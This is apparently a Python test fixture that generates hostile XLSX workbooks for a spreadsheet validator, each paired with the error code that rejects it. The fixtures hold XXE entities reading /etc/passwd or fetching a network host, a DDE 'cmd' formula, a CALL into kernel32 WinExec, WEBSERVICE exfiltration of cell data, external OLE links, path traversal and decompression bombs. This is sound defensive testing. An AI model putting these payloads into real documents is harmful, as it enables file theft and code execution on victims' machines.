"""XML of a workbook that hurts, lies or reaches outside: name → (bytes, the code that refuses it)."""

from __future__ import annotations

import re

from tests.services.spreadsheets.samples import SHEET_PARTS, changed, packed, parts_of

Hostile = dict[str, tuple[bytes, str]]

_ACTIVITY = SHEET_PARTS["活動量"]
_BOOK = "xl/workbook.xml"
_TYPES = "[Content_Types].xml"
_RELATIONS = "xl/_rels/workbook.xml.rels"
_STYLES = "xl/styles.xml"
_LAST = "XFD1048576"


def _many(element: str) -> str:
    """70,000 of ``element``, no two alike, so that they do not pack too well."""
    return "".join(element.format(n * n * 7919 % 10_000_019) for n in range(70_000))


def _bare(good: bytes) -> str:
    """The activity sheet without its declaration."""
    sheet = parts_of(good)[_ACTIVITY].decode()
    return sheet[sheet.index("<worksheet") :]


def _declared(good: bytes, encoding: str, codec: str) -> bytes:
    text = f'<?xml version="1.0" encoding="{encoding}"?>{_bare(good)}'
    return packed({**parts_of(good), _ACTIVITY: text.encode(codec, "replace")})


def _doctype(good: bytes, inside: str, part: str = _ACTIVITY) -> tuple[bytes, str]:
    declared = f"<!DOCTYPE x {inside}>"

    def change(xml: str) -> str:
        return xml.replace("?>", f"?>{declared}", 1) if xml.startswith("<?xml") else declared + xml

    return changed(good, part, change), "xml_entities"


def _before(good: bytes, end: str, extra: str, part: str = _BOOK) -> bytes:
    return changed(good, part, lambda xml: xml.replace(end, extra + end, 1))


def _put(good: bytes, extra: str, before: str = "</sheetData>") -> bytes:
    return _before(good, before, extra, _ACTIVITY)


def _linked(good: bytes, kind: str, target: str) -> bytes:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    extra = f'<Relationship Id="rX" Type="{base}{kind}" Target="{target}" TargetMode="External"/>'
    return _before(good, "</Relationships>", extra, _RELATIONS)


def _formula(good: bytes, text: str) -> bytes:
    return _put(good, f'<row r="99"><c r="A99"><f>{text}</f><v>1</v></c></row>')


def declarations(good: bytes) -> Hostile:
    """XML that declares what it must not, or is encoded so that nobody sees it."""
    parts = parts_of(good)
    sheet = parts[_ACTIVITY].decode()
    bare = _bare(good)
    return {
        "entity from a file": _doctype(good, '[<!ENTITY a SYSTEM "file:///etc/passwd">]'),
        "entity from the network": _doctype(good, '[<!ENTITY a SYSTEM "http://192.0.2.1/">]'),
        "parameter entity": _doctype(good, '[<!ENTITY % a SYSTEM "http://192.0.2.1/"> %a;]'),
        "external subset": _doctype(good, 'SYSTEM "http://192.0.2.1/x.dtd"'),
        "entities in the relations": _doctype(good, '[<!ENTITY a "b">]', _RELATIONS),
        "entities in the content types": _doctype(good, '[<!ENTITY a "b">]', _TYPES),
        "entities in the properties": _doctype(good, '[<!ENTITY a "b">]', "docProps/core.xml"),
        "utf-16 without a mark": (_declared(good, "UTF-16BE", "utf-16-be"), "xml_encoding"),
        "utf-32": (_declared(good, "UTF-32", "utf-32"), "xml_encoding"),
        "shift-jis": (_declared(good, "Shift_JIS", "cp932"), "xml_encoding"),
        "latin-1": (
            packed({**parts, _ACTIVITY: f'<?xml version="1.0" encoding="ISO-8859-1"?>{bare}'.encode()}),
            "xml_encoding",
        ),
        "said to be utf-8 and is not": (
            packed({**parts, _ACTIVITY: sheet.encode("cp932", "replace")}),
            "package_broken",
        ),
        "zero byte": (packed({**parts, _ACTIVITY: sheet.encode() + b"\0"}), "xml_encoding"),
        "empty part": (packed({**parts, _ACTIVITY: b""}), "package_broken"),
        "two roots": (packed({**parts, _ACTIVITY: sheet.encode() + b"<worksheet/>"}), "package_broken"),
        "unbound prefix": (_put(good, "<x:row/>"), "package_broken"),
    }


def amounts(good: bytes) -> Hostile:
    """XML of too much, too deep, too far."""
    parts = parts_of(good)
    columns = "<cols>" + _many('<col min="1" max="2" width="{}"/>') + "</cols>"
    endless = b"<sst><si><t>" + b"a" * 15_000_000 + b"</t></si></sst>"
    return {
        "deep nesting in the styles": (
            _before(good, "</styleSheet>", "<a>" * 99 + "</a>" * 99, _STYLES),
            "too_much_content",
        ),
        "attribute without end": (_put(good, f'<row r="99" x="{"y" * 30_000}"/>'), "too_much_content"),
        "many styles": (
            _before(good, "</cellXfs>", _many('<xf numFmtId="{}"/>'), _STYLES),
            "too_much_content",
        ),
        "many columns": (_before(good, "<sheetData", columns, _ACTIVITY), "too_much_content"),
        "shared string bomb": (
            packed({**parts, "xl/sharedStrings.xml": f"<sst>{_many('<si><t>{}</t></si>')}</sst>".encode()}),
            "too_much_content",
        ),
        "one endless shared string": (packed({**parts, "xl/sharedStrings.xml": endless}), "package_bomb"),
        "column beyond the form": (_put(good, '<row r="99"><c r="XFD99"/></row>'), "cell_out_of_range"),
        "row beyond the form": (_put(good, '<row r="1048576"><c><v>1</v></c></row>'), "cell_out_of_range"),
        "row in scientific notation": (_put(good, '<row r="1e6"><c><v>1</v></c></row>'), "package_broken"),
        "negative row": (_put(good, '<row r="-1"><c/></row>'), "package_broken"),
        "cells without end in a row": (
            _put(good, '<row r="99">' + "<c/>" * 300 + "</row>"),
            "cell_out_of_range",
        ),
        "shared formula over everything": (
            _put(
                good, f'<row r="99"><c r="A99"><f t="shared" ref="A1:{_LAST}" si="0">1</f><v>1</v></c></row>'
            ),
            "cell_out_of_range",
        ),
        "array formula over everything": (
            _put(good, f'<row r="99"><c r="A99"><f t="array" ref="A1:{_LAST}">1</f><v>1</v></c></row>'),
            "cell_out_of_range",
        ),
        "filter over everything": (
            _put(good, f'<autoFilter ref="A1:{_LAST}"/>', "<pageMargins"),
            "cell_out_of_range",
        ),
        "area written backwards": (
            _put(
                good, "<mergeCells>" + '<mergeCell ref="GR1990:A100"/>' * 3 + "</mergeCells>", "<pageMargins"
            ),
            "too_much_content",
        ),
    }


def outside(good: bytes) -> Hostile:
    """What reaches another workbook, a program or the network."""
    asks = '<dataValidation type="list" sqref="A99"><formula1>[1]S!A1</formula1></dataValidation>'
    return {
        "picture from the network": (_linked(good, "image", "http://192.0.2.1/x.png"), "external_links"),
        "template from the network": (
            _linked(good, "attachedTemplate", "file://192.0.2.1/x"),
            "external_links",
        ),
        "object from the network": (_linked(good, "oleObject", "http://192.0.2.1/x"), "external_links"),
        "dde in a cell": (_formula(good, "cmd|'/c calc'!A0"), "external_links"),
        "cell of another workbook": (_formula(good, "[1]Sheet1!A1"), "external_links"),
        "cell of a file by path": (_formula(good, "'C:\\x\\[a.xlsx]S'!A1"), "external_links"),
        "web service": (_formula(good, 'WEBSERVICE("http://192.0.2.1/"&amp;A1)'), "external_links"),
        "real-time data": (_formula(good, 'RTD("x",,"y")'), "external_links"),
        "picture function": (_formula(good, '_xlfn.IMAGE("http://192.0.2.1/x.png")'), "external_links"),
        "call into a library": (
            _formula(good, 'CALL("kernel32","WinExec","JCJ","calc",0)'),
            "external_links",
        ),
        "name of another workbook": (
            _before(good, "</definedNames>", '<definedName name="x">[1]S!A1</definedName>'),
            "external_links",
        ),
        "validation that asks elsewhere": (
            _put(good, f"<dataValidations>{asks}</dataValidations>", "<pageMargins"),
            "external_links",
        ),
    }


def nonsense(good: bytes) -> Hostile:
    """Workbooks whose parts do not fit together."""
    parts = parts_of(good)
    return {
        "style that is no number": (
            changed(good, _ACTIVITY, lambda xml: re.sub(r'\bs="\d+"', 's="ten"', xml, count=5)),
            "package_broken",
        ),
        "text index below zero": (
            _put(good, '<row r="99"><c r="A99" t="s"><v>-9999999</v></c></row>'),
            "package_broken",
        ),
        "number that is none": (
            _put(good, '<row r="99"><c r="A99"><v>twelve</v></c></row>'),
            "package_broken",
        ),
        "sheets in a circle": (
            changed(good, _RELATIONS, lambda xml: xml.replace("worksheets/sheet3.xml", "workbook.xml")),
            "layout_changed",
        ),
        "relation upwards": (
            changed(
                good, _RELATIONS, lambda xml: xml.replace("worksheets/sheet3.xml", "../../../etc/passwd")
            ),
            "active_content",
        ),
        "workbook of another kind": (packed({**parts, _BOOK: b"<html/>"}), "sheet_missing"),
    }


def documents(good: bytes) -> Hostile:
    """All of them, made from ``good``."""
    return {**declarations(good), **amounts(good), **outside(good), **nonsense(good)}
